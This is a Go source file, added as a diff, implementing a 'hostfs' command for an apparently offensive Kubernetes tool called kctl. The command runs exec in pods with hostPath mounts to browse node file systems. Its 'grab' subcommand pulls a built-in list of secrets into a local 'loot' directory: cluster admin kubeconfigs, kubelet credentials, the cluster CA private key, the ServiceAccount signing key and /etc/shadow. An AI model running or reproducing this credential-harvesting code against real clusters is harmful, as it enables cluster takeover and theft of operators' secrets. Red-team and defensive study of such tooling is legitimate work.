@@ -0,0 +1,595 @@
+package commands
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"os"
+	"path"
+	"path/filepath"
+	"sort"
+	"strings"
+
+	"kctl/config"
+	"kctl/internal/console/completion"
+	"kctl/internal/i18n"
+	"kctl/internal/output"
+	"kctl/internal/session"
+	"kctl/internal/transport"
+	"kctl/pkg/types"
+)
+
+// HostFSCmd hostfs 命令
+type HostFSCmd struct{}
+
+func init() {
+	Register(&HostFSCmd{})
+}
+
+// hostFSGrabTarget 高价值文件
+type hostFSGrabTarget struct {
+	Name        string
+	Path        string
+	Description string
+}
+
+// hostFSGrabTargets grab 快捷方式（按名称引用）
+var hostFSGrabTargets = []hostFSGrabTarget{
+	{"admin.conf", "/etc/kubernetes/admin.conf", "kubeadm 集群管理员 kubeconfig"},
+	{"super-admin.conf", "/etc/kubernetes/super-admin.conf", "kubeadm 1.29+ 超级管理员 kubeconfig"},
+	{"kubelet.conf", "/etc/kubernetes/kubelet.conf", "Kubelet kubeconfig（节点身份）"},
+	{"bootstrap", "/etc/kubernetes/bootstrap-kubelet.conf", "Kubelet 引导 kubeconfig（bootstrap token）"},
+	{"kubelet-client", "/var/lib/kubelet/pki/kubelet-client-current.pem", "Kubelet 客户端证书和私钥"},
+	{"ca.key", "/etc/kubernetes/pki/ca.key", "集群 CA 私钥"},
+	{"sa.key", "/etc/kubernetes/pki/sa.key", "ServiceAccount 签名私钥"},
+	{"shadow", "/etc/shadow", "节点用户密码哈希"},
+}
+
+// hostMount 容器中的 hostPath 挂载
+type hostMount struct {
+	Container string
+	MountPath string // 容器内路径
+	Source    string // 主机路径
+	ReadOnly  bool
+}
+
+func (c *HostFSCmd) Name() string {
+	return "hostfs"
+}
+
+func (c *HostFSCmd) Aliases() []string {
+	return nil
+}
+
+func (c *HostFSCmd) Description() string {
+	return "通过 hostPath 挂载浏览节点文件系统"
+}
+
+// IsDestructive hostfs 通过 exec 读取节点文件
+func (c *HostFSCmd) IsDestructive(args []string) bool {
+	return len(args) > 0 && args[0] != "mounts"
+}
+
+// IsReadOnly mounts 只读取 Pod 缓存
+func (c *HostFSCmd) IsReadOnly(args []string) bool {
+	return len(args) > 0 && args[0] == "mounts"
+}
+
+func (c *HostFSCmd) Usage() string {
+	return `hostfs <subcommand> [path] [options]
+
+在挂载了 hostPath 的 Pod 中通过 exec 浏览节点文件系统，路径均为主机路径，自动换算为容器内路径
+
+子命令：
+  mounts              列出缓存中所有 Pod 的 hostPath 挂载
+  ls <path>           列出主机目录
+  cat <path>          读取主机文件
+  find <path>         查找主机文件（--name <pattern>，--maxdepth <n>）
+  grab [name...]      读取高价值文件（不指定时读取全部，见下方列表）
+
+选项：
+  --pod <[ns/]name>   使用指定 Pod（默认: 缓存中挂载范围最大的 Running Pod）
+  -c <container>      指定容器
+  --name <pattern>    find 文件名匹配
+  --maxdepth <n>      find 最大深度（默认: 3）
+  --out <dir>         grab 保存到本地目录（按主机路径建立子目录）
+  --confirm           当前 SA 为 cluster-admin 时必须指定
+
+grab 目标：
+` + hostFSGrabUsage() + `
+示例：
+  hostfs mounts
+  hostfs ls /etc/kubernetes
+  hostfs cat /var/lib/kubelet/config.yaml
+  hostfs find /var/lib/kubelet --name '*.pem'
+  hostfs grab admin.conf kubelet.conf --out ./loot
+  hostfs grab --pod kube-system/node-exporter-x7k2p`
+}
+
+// Flags hostfs 的选项补全
+func (c *HostFSCmd) Flags(args []string) []completion.Flag {
+	if len(args) == 0 {
+		return nil
+	}
+	flags := []completion.Flag{
+		{Name: "--pod", Arg: "<[ns/]name>", Description: "使用指定 Pod", Values: hostPathPods},
+		flagContainer,
+	}
+	switch args[0] {
+	case "find":
+		flags = append(flags,
+			completion.Flag{Name: "--name", Arg: "<pattern>", Description: "文件名匹配"},
+			completion.Flag{Name: "--maxdepth", Arg: "<n>", Description: "最大深度（默认: 3）"},
+		)
+	case "grab":
+		flags = append(flags, completion.Flag{Name: "--out", Arg: "<dir>", Description: "保存到本地目录"})
+	}
+	return append(flags, flagConfirm)
+}
+
+// Suggestions hostfs 的子命令及 grab 目标补全
+func (c *HostFSCmd) Suggestions(sess *session.Session, args []string) []completion.Suggestion {
+	if len(args) == 0 {
+		return []completion.Suggestion{
+			{Text: "mounts", Description: "列出 hostPath 挂载"},
+			{Text: "ls", Description: "列出主机目录"},
+			{Text: "cat", Description: "读取主机文件"},
+			{Text: "find", Description: "查找主机文件"},
+			{Text: "grab", Description: "读取高价值文件"},
+		}
+	}
+	if args[0] != "grab" {
+		return nil
+	}
+	var suggestions []completion.Suggestion
+	for _, t := range hostFSGrabTargets {
+		suggestions = append(suggestions, completion.Suggestion{Text: t.Name, Description: t.Path})
+	}
+	return suggestions
+}
+
+// hostPathPods 补全挂载了 hostPath 的 Pod（ns/name）
+func hostPathPods(sess *session.Session, _ []string) []completion.Suggestion {
+	var suggestions []completion.Suggestion
+	for _, pod := range sess.GetCachedPods() {
+		if pod.SecurityFlags.HasHostPath {
+			suggestions = append(suggestions, completion.Suggestion{Text: pod.Namespace + "/" + pod.PodName, Description: pod.NodeName})
+		}
+	}
+	return suggestions
+}
+
+// hostFSGrabUsage grab 目标说明
+func hostFSGrabUsage() string {
+	var b strings.Builder
+	for _, t := range hostFSGrabTargets {
+		fmt.Fprintf(&b, "  %-18s%s\n", t.Name, t.Path)
+	}
+	return b.String()
+}
+
+func (c *HostFSCmd) Execute(sess *session.Session, args []string) error {
+	if len(args) == 0 {
+		return i18n.Errorf("用法: hostfs <mounts|ls|cat|find|grab> [path]")
+	}
+
+	sub := args[0]
+	target := ""
+	container := ""
+	name := ""
+	maxDepth := "3"
+	outDir := ""
+	var positional []string
+
+	for i := 1; i < len(args); i++ {
+		switch args[i] {
+		case "--pod":
+			if i+1 < len(args) {
+				target = args[i+1]
+				i++
+			}
+		case "-c":
+			if i+1 < len(args) {
+				container = args[i+1]
+				i++
+			}
+		case "--name":
+			if i+1 < len(args) {
+				name = args[i+1]
+				i++
+			}
+		case "--maxdepth":
+			if i+1 < len(args) {
+				maxDepth = args[i+1]
+				i++
+			}
+		case "--out":
+			if i+1 < len(args) {
+				outDir = args[i+1]
+				i++
+			}
+		default:
+			if strings.HasPrefix(args[i], "-") {
+				return i18n.Errorf("未知选项: %s", args[i])
+			}
+			positional = append(positional, args[i])
+		}
+	}
+
+	if sub == "mounts" {
+		return c.listMounts(sess)
+	}
+
+	pod, mounts, err := c.selectPod(sess, target, container)
+	if err != nil {
+		return err
+	}
+
+	executor, err := sess.GetExecTransport()
+	if err != nil {
+		return err
+	}
+
+	h := &hostFS{sess: sess, exec: executor, pod: pod, mounts: mounts}
+
+	switch sub {
+	case "ls":
+		return h.ls(hostFSPath(positional))
+	case "cat":
+		if len(positional) == 0 {
+			return i18n.Errorf("用法: hostfs cat <path>")
+		}
+		return h.cat(positional[0])
+	case "find":
+		return h.find(hostFSPath(positional), name, maxDepth)
+	case "grab":
+		return h.grab(positional, outDir)
+	default:
+		return i18n.Errorf("未知子命令: %s (可用: mounts, ls, cat, find, grab)", sub)
+	}
+}
+
+// hostFSPath 返回第一个位置参数，默认为 /
+func hostFSPath(positional []string) string {
+	if len(positional) == 0 {
+		return "/"
+	}
+	return positional[0]
+}
+
+// listMounts 列出缓存中所有 hostPath 挂载
+func (c *HostFSCmd) listMounts(sess *session.Session) error {
+	p := sess.Printer
+
+	var rows [][]string
+	for _, pod := range sess.GetCachedPods() {
+		for _, m := range podHostMounts(pod) {
+			mode := "rw"
+			if m.ReadOnly {
+				mode = "ro"
+			}
+			rows = append(rows, []string{pod.Namespace, pod.PodName, m.Container, m.Source, m.MountPath, mode, pod.Status})
+		}
+	}
+	if len(rows) == 0 {
+		p.Warning(i18n.T("缓存中没有挂载 hostPath 的 Pod，请先执行 pods"))
+		return nil
+	}
+
+	p.Println()
+	output.NewTablePrinter().PrintSimple([]string{"NAMESPACE", "POD", "CONTAINER", "HOST PATH", "MOUNT PATH", "MODE", "STATUS"}, rows)
+	p.Println()
+	p.Printf("%s %d hostPath mount(s)\n", p.Colored(config.ColorGreen, "[+]"), len(rows))
+	return nil
+}
+
+// selectPod 选择指定的 Pod 或挂载范围最大的 Running Pod
+func (c *HostFSCmd) selectPod(sess *session.Session, target, container string) (*types.PodContainerInfo, []hostMount, error) {
+	p := sess.Printer
+	pods := sess.GetCachedPods()
+	if len(pods) == 0 {
+		return nil, nil, i18n.Errorf("没有缓存的 Pod，请先执行 pods")
+	}
+
+	filterContainer := func(mounts []hostMount) []hostMount {
+		if container == "" {
+			return mounts
+		}
+		var result []hostMount
+		for _, m := range mounts {
+			if m.Container == container {
+				result = append(result, m)
+			}
+		}
+		return result
+	}
+
+	if target != "" {
+		ref, err := sess.ResolvePod(target, "", "")
+		if err != nil {
+			return nil, nil, err
+		}
+		for i := range pods {
+			if pods[i].PodName != ref.Pod || pods[i].Namespace != ref.Namespace {
+				continue
+			}
+			mounts := filterContainer(podHostMounts(pods[i]))
+			if len(mounts) == 0 {
+				return nil, nil, i18n.Errorf("Pod %s/%s 没有 hostPath 挂载", pods[i].Namespace, pods[i].PodName)
+			}
+			return &pods[i], mounts, nil
+		}
+		return nil, nil, i18n.Errorf("缓存中没有 Pod: %s", target)
+	}
+
+	var best *types.PodContainerInfo
+	var bestMounts []hostMount
+	bestLen := -1
+	for i := range pods {
+		if pods[i].Status != "Running" {
+			continue
+		}
+		mounts := filterContainer(podHostMounts(pods[i]))
+		if len(mounts) == 0 {
+			continue
+		}
+		// 挂载源越短覆盖范围越大（/ 最优）
+		if bestLen == -1 || len(mounts[0].Source) < bestLen {
+			best, bestMounts, bestLen = &pods[i], mounts, len(mounts[0].Source)
+		}
+	}
+	if best == nil {
+		return nil, nil, i18n.Errorf("缓存中没有挂载 hostPath 的 Running Pod，使用 'hostfs mounts' 查看")
+	}
+
+	p.Printf("%s Using pod %s/%s (%s -> %s)\n", p.Colored(config.ColorBlue, "[*]"),
+		best.Namespace, best.PodName, bestMounts[0].Source, bestMounts[0].MountPath)
+	return best, bestMounts, nil
+}
+
+// podHostMounts 返回 Pod 中所有 hostPath 挂载（按主机路径长度升序）
+func podHostMounts(pod types.PodContainerInfo) []hostMount {
+	var mounts []hostMount
+	for _, c := range pod.Containers {
+		for _, vm := range c.VolumeMounts {
+			if vm.Type != "hostPath" || vm.Source == "" {
+				continue
+			}
+			mounts = append(mounts, hostMount{
+				Container: c.Name,
+				MountPath: vm.MountPath,
+				Source:    path.Clean(vm.Source),
+				ReadOnly:  vm.ReadOnly,
+			})
+		}
+	}
+	sort.SliceStable(mounts, func(i, j int) bool { return len(mounts[i].Source) < len(mounts[j].Source) })
+	return mounts
+}
+
+// hostFS 通过 exec 访问主机文件
+type hostFS struct {
+	sess   *session.Session
+	exec   transport.ExecTransport
+	pod    *types.PodContainerInfo
+	mounts []hostMount
+}
+
+// resolve 将主机路径换算为容器内路径（选择覆盖该路径的最长挂载）
+func (h *hostFS) resolve(hostPath string) (hostMount, string, error) {
+	hostPath = path.Clean("/" + hostPath)
+	var match *hostMount
+	for i := range h.mounts {
+		m := &h.mounts[i]
+		if m.Source == "/" || hostPath == m.Source || strings.HasPrefix(hostPath, m.Source+"/") {
+			if match == nil || len(m.Source) > len(match.Source) {
+				match = m
+			}
+		}
+	}
+	if match == nil {
+		var sources []string
+		for _, m := range h.mounts {
+			sources = append(sources, m.Source)
+		}
+		return hostMount{}, "", i18n.Errorf("主机路径 %s 不在 Pod 的 hostPath 挂载范围内 (%s)", hostPath, strings.Join(sources, ", "))
+	}
+	rel := strings.TrimPrefix(hostPath, match.Source)
+	return *match, path.Join(match.MountPath, rel), nil
+}
+
+// toHost 将容器内路径换算回主机路径
+func (m hostMount) toHost(containerPath string) string {
+	if containerPath != m.MountPath && !strings.HasPrefix(containerPath, strings.TrimSuffix(m.MountPath, "/")+"/") {
+		return containerPath
+	}
+	return path.Join(m.Source, strings.TrimPrefix(containerPath, m.MountPath))
+}
+
+// run 在挂载所在容器中执行命令
+func (h *hostFS) run(ctx context.Context, m hostMount, command []string) (*types.ExecResult, error) {
+	result, err := h.exec.Exec(ctx, &types.ExecOptions{
+		Namespace: h.pod.Namespace,
+		Pod:       h.pod.PodName,
+		Container: m.Container,
+		Command:   command,
+		Stdout:    true,
+		Stderr:    true,
+	})
+	if err != nil {
+		return nil, i18n.Errorf("执行命令失败: %w", err)
+	}
+	return result, nil
+}
+
+// printResult 输出命令结果，非零退出时返回错误
+func (h *hostFS) printResult(result *types.ExecResult, transform func(string) string) error {
+	p := h.sess.Printer
+	if result.Stdout != "" {
+		out := result.Stdout
+		if transform != nil {
+			out = transform(out)
+		}
+		p.Print(out)
+		if !strings.HasSuffix(out, "\n") {
+			p.Println()
+		}
+	}
+	if result.Stderr != "" {
+		p.Print(p.Colored(config.ColorGray, result.Stderr))
+		if !strings.HasSuffix(result.Stderr, "\n") {
+			p.Println()
+		}
+	}
+	if result.ExitCode != 0 {
+		return &ExitCodeError{Code: result.ExitCode}
+	}
+	if result.Error != "" {
+		return i18n.Errorf("执行命令失败: %s", result.Error)
+	}
+	return nil
+}
+
+func (h *hostFS) ls(hostPath string) error {
+	m, cpath, err := h.resolve(hostPath)
+	if err != nil {
+		return err
+	}
+	result, err := h.run(h.sess.Context(), m, []string{"ls", "-la", cpath})
+	if err != nil {
+		return err
+	}
+	return h.printResult(result, nil)
+}
+
+func (h *hostFS) cat(hostPath string) error {
+	m, cpath, err := h.resolve(hostPath)
+	if err != nil {
+		return err
+	}
+	result, err := h.run(h.sess.Context(), m, []string{"cat", cpath})
+	if err != nil {
+		return err
+	}
+	return h.printResult(result, nil)
+}
+
+func (h *hostFS) find(hostPath, name, maxDepth string) error {
+	m, cpath, err := h.resolve(hostPath)
+	if err != nil {
+		return err
+	}
+	command := []string{"find", cpath, "-maxdepth", maxDepth}
+	if name != "" {
+		command = append(command, "-name", name)
+	}
+	result, err := h.run(h.sess.Context(), m, command)
+	if err != nil {
+		return err
+	}
+	// 输出中的容器路径换算回主机路径
+	return h.printResult(result, func(out string) string {
+		lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
+		for i, line := range lines {
+			lines[i] = m.toHost(line)
+		}
+		return strings.Join(lines, "\n") + "\n"
+	})
+}
+
+// grab 读取高价值文件，指定 outDir 时保存到本地
+func (h *hostFS) grab(names []string, outDir string) error {
+	p := h.sess.Printer
+	ctx := h.sess.Context()
+
+	targets := hostFSGrabTargets
+	if len(names) > 0 {
+		targets = nil
+		for _, name := range names {
+			t, ok := lookupGrabTarget(name)
+			if !ok {
+				return i18n.Errorf("未知目标: %s，输入 'help hostfs' 查看可用目标", name)
+			}
+			targets = append(targets, t)
+		}
+	}
+
+	found := 0
+	for _, t := range targets {
+		if _, _, err := h.resolve(t.Path); err != nil {
+			p.Printf("%s %-18s %s\n", p.Colored(config.ColorGray, "[-]"), t.Name, p.Colored(config.ColorGray, "not mounted"))
+			continue
+		}
+		data, ok, err := h.readFile(ctx, t.Path)
+		if err != nil {
+			return err
+		}
+		if !ok {
+			p.Printf("%s %-18s %s\n", p.Colored(config.ColorGray, "[-]"), t.Name, p.Colored(config.ColorGray, "not found"))
+			continue
+		}
+		found++
+
+		if outDir == "" {
+			p.Printf("%s %s (%s)\n", p.Colored(config.ColorGreen, "[+]"), t.Path, t.Description)
+			p.Print(string(data))
+			if !bytes.HasSuffix(data, []byte("\n")) {
+				p.Println()
+			}
+			p.Println()
+			continue
+		}
+
+		local, err := saveHostFile(outDir, t.Path, data)
+		if err != nil {
+			return err
+		}
+		p.Printf("%s %-18s %s -> %s\n", p.Colored(config.ColorGreen, "[+]"), t.Name, t.Path, local)
+	}
+
+	p.Printf("%s %d/%d file(s) retrieved\n", p.Colored(config.ColorGreen, "[+]"), found, len(targets))
+	return nil
+}
+
+// readFile 读取主机文件，路径不在挂载范围内或文件不存在时 ok 为 false
+func (h *hostFS) readFile(ctx context.Context, hostPath string) ([]byte, bool, error) {
+	m, cpath, err := h.resolve(hostPath)
+	if err != nil {
+		return nil, false, nil
+	}
+	result, err := h.run(ctx, m, []string{"cat", cpath})
+	if err != nil {
+		return nil, false, err
+	}
+	if result.ExitCode != 0 || result.Error != "" || result.Stdout == "" {
+		return nil, false, nil
+	}
+	return []byte(result.Stdout), true, nil
+}
+
+// node 返回 Pod 所在节点
+func (h *hostFS) node() string {
+	return h.pod.NodeName
+}
+
+// saveHostFile 将主机文件按原路径保存到本地目录下，返回本地路径
+func saveHostFile(outDir, hostPath string, data []byte) (string, error) {
+	local := filepath.Join(outDir, filepath.FromSlash(strings.TrimPrefix(hostPath, "/")))
+	if err := os.MkdirAll(filepath.Dir(local), 0700); err != nil {
+		return "", i18n.Errorf("创建目录失败: %w", err)
+	}
+	if err := os.WriteFile(local, data, 0600); err != nil {
+		return "", i18n.Errorf("保存 %s 失败: %w", hostPath, err)
+	}
+	return local, nil
+}
+
+// lookupGrabTarget 按名称或主机路径查找 grab 目标
+func lookupGrabTarget(name string) (hostFSGrabTarget, bool) {
+	for _, t := range hostFSGrabTargets {
+		if t.Name == name || t.Path == name {
+			return t, true
+		}
+	}
+	return hostFSGrabTarget{}, false
+}